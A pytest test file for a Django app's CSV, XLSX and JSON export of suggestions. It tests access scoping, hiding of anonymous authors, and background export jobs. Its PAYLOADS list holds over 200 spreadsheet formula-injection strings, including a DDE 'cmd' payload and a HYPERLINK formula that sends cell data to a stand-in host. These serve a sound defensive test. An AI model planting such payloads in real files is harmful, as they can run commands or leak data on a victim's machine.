"""Lists as CSV, XLSX and JSON: what stands in the list, never a formula, and a job where it is long."""

import csv
import datetime as dt
import io
import json
from unittest.mock import patch
from uuid import uuid4

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from openpyxl import load_workbook

from improvements import services
from improvements.exports.columns import COLUMNS
from improvements.exports.writing import WRITERS
from improvements.models import ExportJob, ExportPart, Suggestion
from improvements.services import export_jobs
from improvements.services.export_jobs import AGAIN_AFTER, ask_export, discard_export, work_exports
from improvements.views import exports
from lean_portal import clock
from lean_portal.refusals import NotAllowed
from organisation.models import User
from tests.improvements.following import carried_out
from tests.improvements.pages import reader, text_of

PLACE, LIST = "/forslag/ladda-ner/", "/forslag/"
CANARY = "Kanariefågel"
PREFIXES = (
    "=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "＝", "＋", "－", "＠", "'=", '"=', "=\x00", "\ufeff=",
)  # fmt: skip
BODIES = (
    "1+1", "cmd|'/c calc'!A1", 'HYPERLINK("http://x/"&A1)', "SUM(A1:A9)", 'WEBSERVICE("http://x")',
    "2-1;=3+4", '"";=1+1', "A1,=1", "DDE(1)", "\n=1+1", "\t=1", "å;ä\r\n=1", "IMPORTXML(1)",
)  # fmt: skip
PAYLOADS = [prefix + body for prefix in PREFIXES for body in BODIES]
TYPES = ("csv", "xlsx", "json")


def written(file_type, rows):
    out = io.BytesIO()
    writer = WRITERS[file_type](out)
    writer.add(rows)
    writer.close()
    return out.getvalue()


def read(file_type, content):
    """Rows as name → text, by readers of others' making."""
    if file_type == "json":
        return json.loads(content)
    if file_type == "csv":
        text = content.decode()
        assert text.startswith("\ufeff")
        rows = list(csv.reader(io.StringIO(text[1:], newline=""), delimiter=";"))
    else:
        sheet = load_workbook(io.BytesIO(content)).active
        assert not [cell for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]
        rows = [["" if cell is None else cell for cell in row] for row in sheet.values]
    return [dict(zip((column.key for column in COLUMNS), row, strict=True)) for row in rows[1:]]


def content_of(response):
    return response.getvalue() if hasattr(response, "getvalue") else b"".join(response.streaming_content)


def downloaded(user, file_type, **query):
    response = reader(user).get(PLACE, {"filtyp": file_type, **query})
    assert response.status_code == 200, response.status_code
    assert response["Content-Disposition"].startswith("attachment;")
    assert response["X-Content-Type-Options"] == "nosniff"
    return content_of(response)


def titles(user, **query):
    return {row["title"] for row in read("json", downloaded(user, "json", **query))}


@pytest.fixture
def hidden(colleague, manager, submit):
    """From somebody whose name only the handler may open."""
    User.objects.filter(pk=colleague.pk).update(name=CANARY, email=f"{CANARY}@x.se")
    colleague.refresh_from_db()
    found = submit(colleague, sender="hidden", title="=1+1 dold")
    return services.acknowledge_suggestion(suggestion=found, by=manager)


@pytest.fixture
def long_list(monkeypatch):
    monkeypatch.setattr(exports, "AT_ONCE", 0)


@pytest.fixture
def job(hidden, employee):
    return ask(employee)


def ask(by, query="", file_type="json", number=None):
    return ask_export(by=by, submission_id=number or uuid4(), query=query, file_type=file_type, language="en")


# ---- never a formula --------------------------------------------------------------------------------------


def test_two_hundred_payloads_are_text_in_every_format():
    assert len(PAYLOADS) >= 200
    rows = [[payload] * len(COLUMNS) for payload in PAYLOADS]
    for file_type in TYPES:
        found = [row["title"] for row in read(file_type, written(file_type, rows))]
        assert len(found) == len(PAYLOADS)
        if file_type == "csv":
            assert not [text for text in found if text.lstrip().startswith(tuple("=+-@＝＋－＠"))]
            assert [text.removeprefix("'") for text in found] == [text.removeprefix("'") for text in PAYLOADS]
        elif file_type == "json":
            assert found == PAYLOADS
        else:  # what XML cannot hold is left out, and it has one sign for the end of a line
            assert [plain(text) for text in found] == [plain(text) for text in PAYLOADS]


def plain(text):
    return text.replace("\x00", "").replace("\r\n", "\n").replace("\r", "\n")


def test_text_longer_than_a_cell_is_cut_in_a_spreadsheet_alone():
    rows = [["x" * 40_000] * len(COLUMNS)]
    assert len(read("xlsx", written("xlsx", rows))[0]["title"]) == 32_767
    assert len(read("json", written("json", rows))[0]["title"]) == 40_000


def test_days_are_days_and_nothing_is_nothing():
    rows = [[dt.date(2026, 11, 26)] + [None] * (len(COLUMNS) - 1)]
    assert read("xlsx", written("xlsx", rows))[0]["number"] == dt.datetime(2026, 11, 26)
    assert read("csv", written("csv", rows))[0]["number"] == "2026-11-26"
    assert read("json", written("json", rows))[0] == {
        column.key: "2026-11-26" if column.key == "number" else None for column in COLUMNS
    }
    assert json.loads(written("json", [])) == []


# ---- what stands in it ------------------------------------------------------------------------------------


@pytest.mark.parametrize("file_type", TYPES)
def test_hidden_author_is_seen_in_no_file_not_even_by_the_handler(hidden, employee, manager, file_type):
    for user in (employee, manager):
        content = downloaded(user, file_type)
        rows = read(file_type, content)
        assert [row["title"].lstrip("'") for row in rows] == ["=1+1 dold"]
        assert rows[0]["sender"] == "An employee"
        assert CANARY not in str(rows) and CANARY.encode() not in content


def test_file_holds_what_its_list_holds_for_its_reader(employee, colleague, outsider, manager, submit):
    open_one = services.acknowledge_suggestion(suggestion=submit(employee, title="Öppet"), by=manager)
    submit(employee, title="Oläst")
    sealed = submit(colleague, title="Visselblåsning")
    services.refer_suggestion(suggestion=sealed, by=manager, channel="whistleblowing")
    assert titles(outsider) == {"Öppet"}
    assert titles(employee) == {"Öppet", "Oläst"}
    assert titles(employee, vy="mina") == {"Öppet", "Oläst"}
    assert titles(colleague, vy="mina") == set()
    assert titles(employee, state="submitted") == {"Oläst"}
    assert titles(manager, year=open_one.year - 1) == set()
    assert titles(manager, q="öppet") == {"Öppet"}
    assert titles(outsider, q="oläst") == titles(outsider, q="") == set()
    assert titles(manager, ko="improvements", vy="besvara") == {"Öppet", "Oläst"}


def test_what_is_masked_is_masked_in_the_file(employee, manager, submit):
    suggestion = services.acknowledge_suggestion(suggestion=submit(employee, problem=CANARY), by=manager)
    copy = {"title": "Fler", "problem": "Kopian.", "proposal": "En tavla."}
    services.mask_suggestion(suggestion=suggestion, by=manager, **copy)
    assert CANARY.encode() not in downloaded(employee, "csv")


def test_address_that_describes_no_list_brings_no_file(employee):
    client = reader(employee)
    assert client.get(PLACE, {"filtyp": "exe"}).status_code == 404
    for query in ({"vy": "x"}, {"state": "x"}, {"ko": "improvements"}, {"ko": "x"}, {"year": "x"}):
        assert client.get(PLACE, {"filtyp": "csv", **query}).status_code == 302


def test_list_and_search_link_to_the_same_list_as_a_file(hidden, employee):
    client = reader(employee)
    assert (
        f"{PLACE}?vy=enheten&amp;state=acknowledged&amp;filtyp=xlsx"
        in client.get(LIST, {"vy": "enheten", "state": "acknowledged"}).text
    )
    assert f"{PLACE}?q=dold&amp;filtyp=csv" in client.get("/sok/", {"q": "dold"}).text


def test_file_takes_as_many_statements_however_long(employee, caretakers, submit, manager):
    counts = []
    for _n in range(2):
        carried_out(submit(employee, affected_units=[caretakers]), manager)
        with CaptureQueriesContext(connection) as queries:
            downloaded(employee, "csv")
        counts.append(len(queries))
    assert counts[0] == counts[1]


# ---- a long one -------------------------------------------------------------------------------------------


def test_long_list_is_asked_for_written_and_downloaded(hidden, employee, colleague, long_list):
    client = reader(employee)
    page = client.get(PLACE, {"filtyp": "csv", "vy": "enheten"})
    assert page.status_code == 200 and not ExportJob.objects.exists()
    form = {"submission_id": str(uuid4())}
    answers = [client.post(f"{PLACE}?filtyp=csv&vy=enheten", form) for _time in range(2)]
    job = ExportJob.objects.get()
    assert [answer.url for answer in answers] == [job.get_absolute_url()] * 2
    assert "It begins in a moment" in client.get(job.get_absolute_url()).text
    assert client.get(f"{job.get_absolute_url()}fil/").status_code == 404
    assert work_exports() == 1
    assert "1 suggestion is ready" in text_of(client.get(job.get_absolute_url()))
    assert client.get(job.get_absolute_url(), HTTP_HX_REQUEST="true")["HX-Refresh"] == "true"
    response = client.get(f"{job.get_absolute_url()}fil/")
    content = content_of(response)
    assert len(content) == int(response["Content-Length"])
    assert read("csv", content)[0]["title"] == "'=1+1 dold" and CANARY.encode() not in content
    for part in ("", "fil/"):
        assert reader(colleague).get(f"{job.get_absolute_url()}{part}").status_code == 404


def test_progress_is_said_while_it_is_written(job, employee, hidden, submit, manager, monkeypatch):
    monkeypatch.setattr("improvements.exports.columns.CHUNK", 1)
    submit(employee)
    client, seen = reader(employee), []
    part = {"HTTP_HX_REQUEST": "true"}

    def say(found, **facts):
        real(found, **facts)
        seen.append(text_of(client.get(job.get_absolute_url(), **part)))

    real = export_jobs._say
    with patch.object(export_jobs, "_say", say):
        assert work_exports() == 1
    assert "0 of 2 suggestions" in seen[0] and "1 of 2 suggestions" in seen[1]
    assert len(read("json", b"".join(exports.pieces(job)))) == 2


def test_file_is_kept_for_an_hour(job, employee):
    work_exports()
    client = reader(employee)
    with clock.at(job.asked_at + dt.timedelta(hours=1, seconds=1)):
        assert client.get(f"{job.get_absolute_url()}fil/").status_code == 404
        work_exports()
    assert not ExportJob.objects.exists() and not ExportPart.objects.exists()


@pytest.mark.parametrize("change", ["masked", "sealed", "out of sight"])
def test_file_is_not_handed_out_once_something_in_it_is_withheld(
    job, employee, manager, hidden, pupil_health, change
):
    work_exports()
    place = f"{job.get_absolute_url()}fil/"
    assert content_of(reader(employee).get(place))
    held = Suggestion.objects.filter(pk=hidden.pk)
    if change == "masked":
        words = {"title": "Fler tavlor", "problem": "En elev missar samtalen.", "proposal": "En tavla."}
        services.mask_suggestion(suggestion=held.get(), by=manager, **words)
    elif change == "sealed":
        held.update(channel="incident", state="referred")
    else:
        held.update(secrecy=True, unit=pupil_health, handler_unit=pupil_health)
    answer = reader(employee).get(place)
    assert answer.status_code == 302 and answer.url == job.get_absolute_url()
    assert "withheld since it was written" in text_of(reader(employee).get(place, follow=True))


def test_worker_that_died_is_followed_by_another_and_after_three_it_ends_in_words(job, employee):
    with patch.object(export_jobs, "rows", side_effect=MemoryError):
        assert work_exports() == 0
    assert work_exports() == 0  # not at once: the first may only be slow
    with clock.at(clock.now() + 2 * AGAIN_AFTER):
        assert work_exports() == 1
    ExportJob.objects.update(state="asked", attempts=3, next_at=clock.now())
    assert work_exports() == 0
    assert "could not be written" in text_of(reader(employee).get(job.get_absolute_url()))
    assert not ExportPart.objects.exists()


def test_worker_stops_when_its_job_is_thrown_away_or_taken_over(job, employee, hidden):
    def cells(*args):
        discard_export(job=job, by=employee)
        yield from real(*args)

    real = export_jobs.rows
    with patch.object(export_jobs, "rows", cells):
        assert work_exports() == 0
    assert not ExportJob.objects.exists() and not ExportPart.objects.exists()
    slow = ask(employee)
    with patch.object(export_jobs, "_write"):
        work_exports()
    slow.refresh_from_db()
    ExportJob.objects.update(attempts=2)
    with pytest.raises(export_jobs.Overtaken):
        export_jobs._write(slow)
    assert not ExportPart.objects.exists()


def test_whoever_has_left_gets_no_file_and_what_is_gone_ends_in_words(job, employee, manager):
    gone = ask(manager, "vy=alla&state=x")
    User.objects.filter(pk=employee.pk).update(is_active=False)
    work_exports()
    for found in (job, gone):
        found.refresh_from_db()
        assert found.state == "failed"
    assert not ExportPart.objects.exists()


def test_one_person_has_five_files_at_most(employee, hidden, long_list):
    for _n in range(5):
        ask(employee)
    with pytest.raises(NotAllowed):
        ask(employee)
    page = reader(employee).post(f"{PLACE}?filtyp=csv", {"submission_id": str(uuid4())})
    assert "five files already" in text_of(page)
    first = ExportJob.objects.first()
    assert reader(employee).post(f"{first.get_absolute_url()}ta-bort/").status_code == 302
    ask(employee)


def test_long_file_is_read_and_written_in_pieces(employee, manager, submit, monkeypatch):
    monkeypatch.setattr("improvements.exports.columns.CHUNK", 2)
    monkeypatch.setattr(export_jobs, "PIECE", 700)
    for n in range(5):
        submit(employee, title=f"Nummer {n}")
    job = ask(employee)
    work_exports()
    assert job.parts.count() > 3
    found = read("json", b"".join(exports.pieces(job)))
    assert [row["title"] for row in found] == [f"Nummer {n}" for n in (4, 3, 2, 1, 0)]
    assert Suggestion.objects.count() == 5
